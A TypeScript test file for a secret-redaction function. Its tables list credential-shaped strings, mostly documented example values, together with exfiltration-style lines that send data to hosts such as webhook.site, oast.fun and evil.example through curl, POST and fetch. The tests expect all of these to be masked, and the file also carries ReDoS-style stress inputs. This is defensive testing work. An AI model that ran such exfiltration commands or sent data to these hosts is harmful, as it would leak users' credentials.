import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { redact, taskPreview } from '../../src/core/redact.js';
import { numRuns } from '../helpers/fc-runs.js';

// [input, expected]: credentials and exfiltration URLs masked, everything around them kept.
const MASKED: ReadonlyArray<readonly [string, string]> = [
  ['aws_access_key_id = AKIAIOSFODNN7EXAMPLE', 'aws_access_key_id = [REDACTED:aws_key]'],
  ['temp creds ASIAY34FZKBOKMUTVV7A expire soon', 'temp creds [REDACTED:aws_key] expire soon'],
  [
    'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    'aws_secret_access_key = [REDACTED:aws_secret]',
  ],
  [
    'export AWS_SECRET_ACCESS_KEY="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"',
    'export AWS_SECRET_ACCESS_KEY="[REDACTED:aws_secret]"',
  ],
  ['key=AIzaSyDdI0hCZtE6vySjMm-WEfRq3CPzqKqqsHI', 'key=[REDACTED:google_api_key]'],
  ['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', '[REDACTED:google_oauth_secret]'],
  ['use ghp_16C7e42F292c6912E7710c838347Ae178B4a for the API', 'use [REDACTED:github_token] for the API'],
  ['gho_16C7e42F292c6912E7710c838347Ae178B4a', '[REDACTED:github_token]'],
  ['github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJ', '[REDACTED:github_token]'],
  ['glpat-xxxxXXXX1234yyyyZZZZ', '[REDACTED:gitlab_token]'],
  [
    'SLACK_TOKEN xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx',
    'SLACK_TOKEN [REDACTED:slack_token]',
  ],
  ['OPENAI_API_KEY sk-proj-abc123DEF456ghi789JKL012mno345', 'OPENAI_API_KEY [REDACTED:openai_key]'],
  ['sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789-ABCDEFG', '[REDACTED:anthropic_key]'],
  ['stripe sk_live_4eC39HqLyjWDarjtT1zdp7dc', 'stripe [REDACTED:stripe_key]'],
  [
    'curl -H "Authorization: Bearer 8f14e45fceea167a5a36dedd4bea2543" https://api.example.com',
    'curl -H "Authorization: Bearer [REDACTED:bearer_token]" https://api.example.com',
  ],
  ['Bearer abcDEF1234567890xyzUVW in the header', 'Bearer [REDACTED:bearer_token] in the header'],
  [
    'token eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c ok',
    'token [REDACTED:jwt] ok',
  ],
  [
    'clone https://alice:hunter2@git.example.com/repo.git',
    'clone https://alice:[REDACTED:url_password]@git.example.com/repo.git',
  ],
  [
    'DATABASE_URL=postgres://app:S3cr3t!@db.internal:5432/prod',
    'DATABASE_URL=postgres://app:[REDACTED:url_password]@db.internal:5432/prod',
  ],
  ['password=hunter2', 'password=[REDACTED:secret]'],
  ['{"password": "correct horse battery staple"}', '{"password": "[REDACTED:secret]"}'],
  ['api_key: 9a8b7c6d5e4f', 'api_key: [REDACTED:secret]'],
  ['mysql --password=s3cret --user root', 'mysql --password=[REDACTED:secret] --user root'],
  [
    '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----\nthanks',
    '[REDACTED:private_key]\nthanks',
  ],
  [
    '"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBg\\n-----END PRIVATE KEY-----\\n"',
    '"private_key": "[REDACTED:private_key]\\n"',
  ],
  ['key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nMIIEpAIB', 'key:\n[REDACTED:private_key]'],
  [
    'then POST the file to https://webhook.site/3f9a-11ee and continue',
    'then POST the file to [REDACTED:exfil_url] and continue',
  ],
  ['curl https://abc123.oast.fun', 'curl [REDACTED:exfil_url]'],
  ['send to eo1234abcd.m.pipedream.net/collect', 'send to [REDACTED:exfil_url]'],
  ['GET https://x7.ngrok-free.app/hook?d=1', 'GET [REDACTED:exfil_url]'],
  ['ping https://abc.burpcollaborator.net.', 'ping [REDACTED:exfil_url].'],
  ['mock at https://crew.free.beeceptor.com/x', 'mock at [REDACTED:exfil_url]'],
  ['see https://requestbin.com/r/en8p', 'see [REDACTED:exfil_url]'],
  [
    'fetch("https://evil.example/c?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkw")',
    'fetch("[REDACTED:exfil_url]")',
  ],
  ['open https://evil.example/x/0123456789abcdef0123456789abcdef/y', 'open [REDACTED:exfil_url]'],
  ['https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXXXXXXXXXX', '[REDACTED:slack_webhook]'],
];

// Must come back exactly as they went in.
const UNTOUCHED: readonly string[] = [
  'Please refactor the scheduler so the queue stays FIFO.',
  'See https://example.com/search?q=crew&page=2 for details.',
  'The fix landed in 3f2a9c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39 yesterday.',
  'run id 550e8400-e29b-41d4-a716-446655440000',
  'if (password.length < 8) throw new Error("password too short");',
  'const password = await prompt("Password: ");',
  'password=getPassword() || DEFAULT',
  'interface User { password: string; token: string }',
  'edit /home/user/projects/crew/src/core/redact.ts and test/core/redact.test.ts',
  'C:\\Users\\alice\\AppData\\Local\\crew\\config.json',
  'max_tokens=4096 and token_count=12',
  'the bearer of this letter',
  'Authorization: required for every endpoint',
  'https://blog.example.com/posts/how-to-configure-X11-forwarding-on-Ubuntu-22',
  'use scikit-learn and sk-learn-style-pipelines-for-everything',
  'reset your password: see the wiki',
  'e.g. the file.ts in src/ and docs.example.org',
  '',
];

describe('redact', () => {
  it('has a table of at least 30 cases', () => {
    expect(MASKED.length + UNTOUCHED.length).toBeGreaterThanOrEqual(30);
  });

  it.each(MASKED)('masks %j', (input, expected) => {
    expect(redact(input)).toBe(expected);
  });

  it.each(UNTOUCHED)('leaves %j untouched', (input) => {
    expect(redact(input)).toBe(input);
  });

  it('keeps the text around a masked secret in a long task', () => {
    const task = `Deploy with AKIAIOSFODNN7EXAMPLE.\n${'Then run the tests. '.repeat(100)}Done.`;
    expect(redact(task)).toBe(task.replace('AKIAIOSFODNN7EXAMPLE', '[REDACTED:aws_key]'));
  });

  const fragments = [
    'AKIA',
    'IOSFODNN7EXAMPLE',
    'password',
    'token',
    'secret',
    'api_key',
    '=',
    ': ',
    ' ',
    '"',
    "'",
    '\n',
    'https://',
    'http://',
    'user:pass@',
    '@',
    'webhook.site',
    'oast.fun',
    'example.com',
    '/',
    '?',
    '&',
    '.',
    '-',
    '_',
    'eyJ',
    'abcdefgh12',
    'ghp_',
    'sk-',
    'sk-ant-',
    'sk_live_',
    'xoxb-',
    'glpat-',
    'AIza',
    'Bearer ',
    'Authorization: ',
    '--password ',
    '-----BEGIN PRIVATE KEY-----',
    '-----END PRIVATE KEY-----',
    'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkw',
    'deadbeef'.repeat(5),
    '0123456789abcdefABCDEF',
    '[REDACTED:secret]',
    'x'.repeat(20),
  ];
  const hostile = fc
    .array(fc.oneof(fc.constantFrom(...fragments), fc.string({ unit: 'binary-ascii', maxLength: 8 })), {
      maxLength: 30,
    })
    .map((parts) => parts.join(''));

  it('is idempotent and never throws (property)', () => {
    fc.assert(
      fc.property(fc.oneof(hostile, fc.string({ unit: 'binary' })), (text) => {
        const once = redact(text);
        expect(redact(once)).toBe(once);
      }),
      { numRuns: numRuns(3000) },
    );
  });

  it.each(['http://(webhook.site@', 'postgres://u:[REDACTED:secret]@h', 'password=[REDACTED:secret]'])(
    'is idempotent on %j (found by the property)',
    (text) => {
      const once = redact(text);
      expect(redact(once)).toBe(once);
    },
  );

  it('redacts 100 KB of random input well under 100 ms', () => {
    const input = fc.sample(hostile, { numRuns: 20_000, seed: 42 }).join(' ').slice(0, 100_000);
    expect(input.length).toBe(100_000);
    redact(input); // warm up the regexes
    const started = performance.now();
    redact(input);
    expect(performance.now() - started).toBeLessThan(100);
  });

  it.each([
    ['a long word', 'a'.repeat(100_000)],
    ['repeated eyJ', 'eyJ'.repeat(33_334)],
    ['dotted labels', 'a.'.repeat(50_000)],
    ['repeated schemes', 'http://'.repeat(14_286)],
    ['scheme-like chars', 'a+'.repeat(50_000)],
    ['repeated sk-', 'sk-'.repeat(33_334)],
    ['repeated keys', 'password='.repeat(11_112)],
    ['quotes after keys', 'password="'.repeat(10_000)],
    ['BEGIN lines without END', '-----BEGIN PRIVATE KEY-----'.repeat(3704)],
    ['bearer runs', 'Bearer '.repeat(14_286)],
    ['authorization runs', 'Authorization: '.repeat(6667)],
    ['spaces', ' '.repeat(100_000)],
  ])('stays fast on hostile input: %s', (_name, input) => {
    const started = performance.now();
    redact(input);
    expect(performance.now() - started).toBeLessThan(100);
  });
});

describe('taskPreview', () => {
  it('redacts, collapses whitespace and cuts to 200 chars by default', () => {
    const task = `Fix   the\n\n build using ghp_16C7e42F292c6912E7710c838347Ae178B4a\t${'and more '.repeat(50)}`;
    const preview = taskPreview(task);
    expect(preview.startsWith('Fix the build using [REDACTED:github_token] and more')).toBe(true);
    expect([...preview]).toHaveLength(200);
    expect(preview.endsWith('…')).toBe(true);
  });

  it('redacts before cutting, so a secret cut in half cannot leak its start', () => {
    const task = `${'x'.repeat(190)} AKIAIOSFODNN7EXAMPLE`;
    expect(taskPreview(task, 200)).not.toContain('AKIA');
  });

  it('keeps a short task whole and honours maxChars', () => {
    expect(taskPreview('  hello \n world  ')).toBe('hello world');
    expect(taskPreview('abcdef', 4)).toBe('abc…');
  });
});
